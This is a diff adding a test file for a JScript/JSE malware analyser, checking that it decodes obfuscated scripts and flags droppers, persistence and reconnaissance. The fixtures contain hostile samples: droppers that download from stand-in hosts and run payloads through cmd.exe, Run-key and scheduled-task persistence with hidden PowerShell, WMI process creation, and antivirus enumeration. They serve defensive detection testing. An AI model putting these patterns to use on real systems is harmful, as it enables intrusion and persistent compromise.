@@ -1,0 +1,130 @@
+import assert from 'node:assert/strict';
+import { after, before, test } from 'node:test';
+import { analyze } from '../src/analyze.ts';
+import { decodeEncodedScript } from '../src/analyzers/jscript/jse.ts';
+import { parseScript } from '../src/analyzers/jscript/static/ast.ts';
+import { resolveConditionalCompilation } from '../src/analyzers/jscript/static/conditional-compilation.ts';
+import { decodedStrings } from '../src/analyzers/jscript/static/fold.ts';
+import { defaultConfig } from '../src/config.ts';
+import { openServices, type OpenServices } from '../src/services.ts';
+import type { Report } from '../src/verdict/report.ts';
+import { dropperScript, encodeJse } from './generators/jscript.ts';
+
+const text = (s: string) => new TextEncoder().encode(s);
+const config = defaultConfig();
+let opened: OpenServices;
+before(async () => {
+  opened = await openServices(config);
+});
+after(async () => {
+  await opened.close();
+});
+const run = (name: string, source: string): Promise<Report> => analyze({ name, data: text(source) }, config, opened.services);
+const urlsOf = (r: Report) => r.iocs.filter((i) => i.type === 'url').map((i) => i.value);
+const commandsOf = (r: Report) => r.artifacts.filter((a) => a.relation === 'executed-command' && a.kind === 'cmdline');
+
+const URLS = ['http://first.example/a.exe', 'http://second.example/b.exe', 'http://203.0.113.9/c.exe'];
+const COMMAND = 'cmd.exe /c start "" "%FILE%"';
+
+test('.jse: encoding then decoding gives the script back', () => {
+  const source = 'var s = new ActiveXObject("WScript.Shell");\r\ns.Run("calc <x> @y", 0);\n\tWScript.Echo(\'done\');';
+  const encoded = encodeJse(source);
+  assert.match(encoded, /^#@~\^.{6}==.*\^#~@$/s);
+  assert.ok(!encoded.includes('ActiveXObject'));
+  assert.equal(decodeEncodedScript(encoded), source);
+});
+
+test('conditional compilation: the code WSH compiles comes out of its comment', () => {
+  const out = resolveConditionalCompilation('/*@cc_on @if (@_win32) var a = "yes"; @else var a = "no"; @end @*/');
+  assert.equal(new Function(`${out}; return a;`)(), 'yes');
+});
+
+test('static pass: folds fromCharCode, reversed strings and a rotated string array', () => {
+  const ast = parseScript(dropperScript({ urls: URLS, command: COMMAND }))!;
+  const strings = decodedStrings(ast);
+  for (const word of ['WScript.Shell', 'MSXML2.XMLHTTP', 'ADODB.Stream', 'payload.exe', '%TEMP%\\']) {
+    assert.ok(strings.some((s) => s.includes(word)), `${word} in ${JSON.stringify(strings)}`);
+  }
+});
+
+test('a dropper: every URL of its list is an IOC and a link; the command it runs is a command-line child', async () => {
+  const r = await run('invoice.js', dropperScript({ urls: URLS, command: COMMAND }));
+  assert.deepEqual(urlsOf(r).sort(), [...URLS].sort());
+  assert.ok(r.iocs.some((i) => i.type === 'domain' && i.value === 'first.example'));
+  assert.ok(r.iocs.some((i) => i.type === 'ip' && i.value === '203.0.113.9'));
+  for (const u of URLS) assert.ok(r.artifacts.some((a) => a.relation === 'link' && a.kind === 'url' && a.name === u));
+  const commands = commandsOf(r);
+  assert.equal(commands.length, 1);
+  assert.ok(r.findings.some((f) => f.id === 'jscript.exec.command' && f.evidence.includes('cmd.exe /c start') && f.evidence.includes('payload.exe')));
+  assert.ok(r.findings.some((f) => f.id === 'jscript.dropper.download-and-run'));
+  assert.equal(r.verdict, 'malicious');
+  assert.ok(r.attack.includes('T1059.007') && r.attack.includes('T1105'));
+  const root = r.artifacts.find((a) => a.relation === 'root')!;
+  assert.equal(root.kind, 'jscript');
+});
+
+test('URLs behind @cc_on and a second stage run through eval are found; the eval code is a decoded child', async () => {
+  const r = await run('stage.js', dropperScript({ urls: URLS, command: COMMAND, conditional: true, secondStage: true }));
+  assert.deepEqual(urlsOf(r).sort(), [...URLS].sort());
+  assert.ok(r.findings.some((f) => f.id === 'jscript.obfuscation.dynamic-code'));
+  const decoded = r.artifacts.find((a) => a.relation === 'decoded' && a.kind === 'jscript');
+  assert.ok(decoded, 'the eval layer is an artifact');
+  assert.ok(commandsOf(r).length >= 1);
+});
+
+test('an encoded .jse dropper is decoded first and analysed like the plain one', async () => {
+  const r = await run('invoice.jse', encodeJse(dropperScript({ urls: URLS, command: COMMAND })));
+  assert.equal(r.artifacts[0]!.kind, 'jse');
+  assert.ok(r.findings.some((f) => f.id === 'jscript.obfuscation.encoded'));
+  assert.deepEqual(urlsOf(r).sort(), [...URLS].sort());
+  assert.equal(commandsOf(r).length, 1);
+});
+
+test('WSH surface: registry persistence, scheduled task, WMI process creation and recon become findings', async () => {
+  const source = `
+    var sh = WScript.CreateObject("wscript.shell");
+    sh.RegWrite("HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\upd", "wscript.exe " + WScript.ScriptFullName, "REG_SZ");
+    var svc = new ActiveXObject("Schedule.Service"); svc.Connect();
+    var def = svc.NewTask(0); var act = def.Actions.Create(0); act.Path = "powershell.exe"; act.Arguments = "-nop -w hidden -c iex 1";
+    svc.GetFolder("\\\\").RegisterTaskDefinition("Updater", def, 6, null, null, 3);
+    var wmi = GetObject("winmgmts:{impersonationLevel=impersonate}!\\\\\\\\.\\\\root\\\\cimv2");
+    var avs = GetObject("winmgmts:\\\\\\\\.\\\\root\\\\SecurityCenter2").ExecQuery("SELECT * FROM AntiVirusProduct");
+    var os = wmi.ExecQuery("Select * from Win32_OperatingSystem");
+    var e = new Enumerator(os); var caption = e.item().Caption;
+    wmi.Get("Win32_Process").Create("rundll32.exe C:\\\\Users\\\\Public\\\\x.dll,DllRegisterServer", null, null, 0);
+    WScript.Sleep(15000);
+    var who = new ActiveXObject("WScript.Network").UserName;
+    var fake = new ActiveXObject("Totally.Unknown.Thing"); fake.DoSomething(1).Deeper = 2;
+    sh.NoSuchMember();
+  `;
+  const r = await run('persist.js', source);
+  const ids = new Set(r.findings.map((f) => f.id));
+  for (const id of ['jscript.persistence.run-key', 'jscript.registry.write', 'jscript.persistence.scheduled-task', 'jscript.wmi.query', 'jscript.recon.security-products', 'jscript.exec.command', 'jscript.evasion.sleep', 'jscript.recon.environment']) {
+    assert.ok(ids.has(id), `${id} in ${[...ids].join(', ')}`);
+  }
+  const commands = commandsOf(r).map((a) => a.name);
+  assert.equal(commands.length, 2, 'the task action and Win32_Process.Create are both command lines');
+  const root = r.artifacts.find((a) => a.relation === 'root')!;
+  assert.equal(root.facts?.unknownProgIds, 1);
+  assert.ok(Number(root.facts?.unknownMembers) >= 2);
+});
+
+test('files the script writes itself become dropped-file children; the stand-in download never does', async () => {
+  const source = `
+    var fso = new ActiveXObject("Scripting.FileSystemObject");
+    var f = fso.CreateTextFile(fso.GetSpecialFolder(2) + "\\\\run.bat", true);
+    f.WriteLine("@echo off"); f.WriteLine("start http://example.test/"); f.Close();
+    var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://dl.example/p.bin", false); x.send();
+  `;
+  const r = await run('writer.js', source);
+  const dropped = r.artifacts.filter((a) => a.relation === 'dropped-file');
+  assert.equal(dropped.length, 1);
+  assert.equal(dropped[0]!.name, 'run.bat');
+  assert.ok(r.iocs.some((i) => i.type === 'filename' && i.value === 'run.bat'));
+});
+
+test('a harmless script stays benign', async () => {
+  const r = await run('tool.js', 'var fso = new ActiveXObject("Scripting.FileSystemObject"); var n = 0; for (var i = 0; i < 10; i++) n += i; WScript.Echo("sum " + n);');
+  assert.equal(r.verdict, 'benign');
+  assert.equal(r.errors.length, 0);
+});
